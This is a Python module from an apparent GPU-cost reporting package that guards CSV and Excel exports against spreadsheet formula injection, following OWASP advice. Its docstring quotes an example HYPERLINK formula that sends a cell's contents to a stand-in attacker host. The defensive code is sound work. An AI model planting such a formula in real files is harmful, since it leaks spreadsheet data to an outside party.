"""Files a spreadsheet opens safely (docs/cli.md, "Spreadsheet-safe files").

A label comes from whoever can label a pod or tag a resource; a cell such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would be run as a formula
by the spreadsheet that opens the CSV. :func:`csv_safe` neutralises such text
cells as OWASP advises (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab
or carriage return); number columns are left as numbers. :func:`write_xlsx`
writes typed cells (money in the currency's number format, dates as dates)
and writes every text as a string, never as a formula.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from gpucost import money
from gpucost.errors import Error, InvalidInputError

__all__ = ["csv_safe", "to_csv_bytes", "write_xlsx", "FORMULA_PREFIXES"]

#: first characters that make a spreadsheet evaluate a cell (OWASP CSV injection)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_RISKY = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def _neutralise_text(values: pd.Series) -> pd.Series:
    text = values.astype("string")
    risky = text.str.match(_RISKY) & ~text.str.fullmatch(_NUMBER)
    risky = risky.fillna(False).astype(bool)
    if not risky.any():
        return values
    out = values.astype(object).copy()
    out[risky.to_numpy()] = "'" + text[risky]
    return out


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell (and column name) that a spreadsheet
    would run as a formula prefixed with ``'``; numbers, dates and plain
    text unchanged. Vectorised: one pass per text column.

    Examples:
        A pod label that a spreadsheet would run:

        >>> gpucost.sheets.csv_safe(pd.DataFrame({"team": ["nlp", '=HYPERLINK("http://x")', "-1"],
        ...                                       "cost": [1.0, 2.0, -3.0]}))
                              team  cost
        0                      nlp   1.0
        1  '=HYPERLINK("http://x")   2.0
        2                       -1  -3.0
    """
    out = frame
    for column in frame.columns:
        series = frame[column]
        if isinstance(series.dtype, pd.CategoricalDtype) or pd.api.types.is_object_dtype(series) \
                or pd.api.types.is_string_dtype(series):
            safe = _neutralise_text(series)
            if safe is not series:
                if out is frame:
                    out = frame.copy()
                out[column] = safe
    names = _neutralise_text(pd.Series([str(c) for c in frame.columns], dtype=object))
    if list(names) != [str(c) for c in frame.columns]:
        out = out.copy() if out is frame else out
        out.columns = list(names)
    return out


def to_csv_bytes(frame: pd.DataFrame, *, decimals_of: Mapping[str, Any] | None = None, raw: bool = False) -> bytes:
    """CSV text of ``frame``: text cells neutralised unless ``raw``; the
    columns of ``decimals_of`` (column -> decimals, per row or one) written
    with exactly that many decimals (``12.30``, not ``12.3``), still numbers.

    Examples:
        >>> frame = pd.DataFrame({"team": ["nlp", "@risk"], "cost": [12.3, 4.0]})
        >>> print(gpucost.sheets.to_csv_bytes(frame, decimals_of={"cost": 2}).decode(), end="")
        team,cost
        nlp,12.30
        '@risk,4.00
        >>> print(gpucost.sheets.to_csv_bytes(frame, raw=True).decode(), end="")
        team,cost
        nlp,12.3
        @risk,4.0
    """
    shown = frame if raw else csv_safe(frame)
    if decimals_of:
        shown = shown.copy() if shown is frame else shown
        for column, decimals in decimals_of.items():
            if column in frame.columns:
                shown[column] = _fixed(frame[column].to_numpy(dtype=np.float64), decimals)
    # Python's csv writer quotes a field holding a line break only when the
    # break is in the line terminator: a label with a CR needs CRLF rows
    # (RFC 4180) to stay one field.
    cr = any(_has_cr(shown[c]) for c in shown.columns) or any("\r" in str(c) for c in shown.columns)
    return shown.to_csv(index=False, lineterminator="\r\n" if cr else "\n").encode()


def _has_cr(series: pd.Series) -> bool:
    if not (isinstance(series.dtype, pd.CategoricalDtype) or pd.api.types.is_object_dtype(series)
            or pd.api.types.is_string_dtype(series)):
        return False
    return bool(series.astype("string").str.contains("\r", regex=False).fillna(False).any())


def _fixed(values: np.ndarray, decimals: Any) -> pd.Series:
    dec = np.broadcast_to(np.asarray(decimals, dtype=np.int64), values.shape)
    out = pd.Series([""] * len(values), dtype=object)
    for d in np.unique(dec):  # one vectorised pass per number of decimals (one per currency)
        rows = (dec == d) & np.isfinite(values)
        out[rows] = np.char.mod(f"%.{int(d)}f", values[rows] + 0.0)
    return out


# ---- xlsx ---------------------------------------------------------------------------

_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")


def _sheet_names(keys: list[str]) -> list[str]:
    names: list[str] = []
    for key in keys:
        base = _SHEET_BAD.sub("_", str(key)).strip("'") or "sheet"
        name, i = base[:31], 2
        while name.lower() in (n.lower() for n in names):
            suffix = f"_{i}"
            name, i = base[:31 - len(suffix)] + suffix, i + 1
        names.append(name)
    return names


def _money_format(decimals: int, currency: str) -> str:
    digits = "0." + "0" * decimals if decimals else "0"
    return f'#,##{digits} "{currency}";-#,##{digits} "{currency}"'


def _excel_value(v: Any) -> Any:
    if v is None or v is pd.NaT or (isinstance(v, float) and np.isnan(v)):
        return None
    if isinstance(v, pd.Timestamp):
        v = v.tz_convert("UTC").tz_localize(None) if v.tzinfo is not None else v
        return v.to_pydatetime()
    if isinstance(v, np.generic):
        return v.item()
    return v


def write_xlsx(tables: Mapping[str, pd.DataFrame] | pd.DataFrame, path: str | Path, *, currency: Any = None,
               decimals: Any = None) -> Path:
    """Writes one sheet per table (a DataFrame: one sheet named "gpucost")
    to ``path`` atomically: money rounded as :func:`gpucost.money.book` does
    and shown in the currency's number format, hours and ratios as numbers,
    datetimes as Excel dates (UTC), every text cell a string, never a
    formula. Needs openpyxl (``pip install gpucost[excel]``).

    Examples:
        >>> showback = pd.DataFrame({"team": ["nlp", "=1+1"], "cost": [10 / 3, 20 / 3]})
        >>> path = gpucost.sheets.write_xlsx({"showback": showback}, "showback.xlsx", currency="EUR")
        >>> from openpyxl import load_workbook
        >>> sheet = load_workbook(path)["showback"]
        >>> [[cell.value for cell in row] for row in sheet.iter_rows()]
        [['team', 'cost'], ['nlp', 3.33], ['=1+1', 6.67]]
        >>> sheet["B2"].number_format
        '#,##0.00 "EUR";-#,##0.00 "EUR"'
        >>> sheet["A3"].data_type   # a string, not a formula
        's'
    """
    try:
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Font
    except ImportError:
        raise Error("an .xlsx output needs openpyxl: pip install 'gpucost[excel]'") from None
    from gpucost.demo import atomic_write
    if isinstance(tables, pd.DataFrame):
        tables = {"gpucost": tables}
    if not tables:
        raise InvalidInputError(f"{path}: no table to write")
    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    for name, frame in zip(_sheet_names(list(tables)), tables.values()):
        named = any(n is not None for n in frame.index.names)  # a grouped table keeps its keys
        frame = frame.reset_index(drop=not named)
        ws = wb.create_sheet(name)
        additive = "cost" in frame.columns and "gpu_hours" in frame.columns
        booked = money.book(frame, decimals=decimals, currency=currency, additive=additive)
        kinds = money.column_kinds(frame)
        codes = money.frame_currency(frame, currency)
        row_codes = np.broadcast_to(np.asarray(codes, dtype=object), (len(frame),))
        chosen = money.parse_decimals(decimals)
        formats = {}
        for c, kind in kinds.items():
            if kind in ("money", "rate"):
                extra = 2 if kind == "rate" else 0
                if chosen == "raw":
                    formats[c] = [_money_format(money.minor_unit(code) + 4, str(code)) for code in row_codes]
                else:
                    formats[c] = [_money_format((chosen if isinstance(chosen, int) else money.minor_unit(code))
                                                + extra, str(code)) for code in row_codes]
            elif kind == "hours":
                formats[c] = "#,##0.000"
            else:
                formats[c] = "0.0000"
        date_formats = {}
        for c in frame.columns:
            col = frame[c]
            if pd.api.types.is_datetime64_any_dtype(col):
                t = col.dropna()
                t = t.dt.tz_convert(None) if t.dt.tz is not None else t  # Excel has no time zones: UTC
                midnight = bool(len(t)) and bool((t == t.dt.normalize()).all())
                date_formats[c] = "yyyy-mm-dd" if midnight else "yyyy-mm-dd hh:mm:ss"
            elif len(col) and isinstance(col.dropna().iloc[0] if col.notna().any() else None, dt.date):
                date_formats[c] = "yyyy-mm-dd"
        header = []
        for c in frame.columns:
            cell = WriteOnlyCell(ws, value=str(c))
            cell.data_type = "s"
            cell.font = bold
            header.append(cell)
        ws.append(header)
        columns = list(frame.columns)
        for i, values in enumerate(booked.itertuples(index=False, name=None)):
            row = []
            for c, v in zip(columns, values):
                v = _excel_value(v)
                cell = WriteOnlyCell(ws, value=v)
                if isinstance(v, str):
                    cell.data_type = "s"  # text stays text: a label is never a formula
                elif v is not None and c in formats:
                    f = formats[c]
                    cell.number_format = f[i] if isinstance(f, list) else f
                elif v is not None and c in date_formats:
                    cell.number_format = date_formats[c]
                row.append(cell)
            ws.append(row)
    return atomic_write(path, lambda f: wb.save(f))
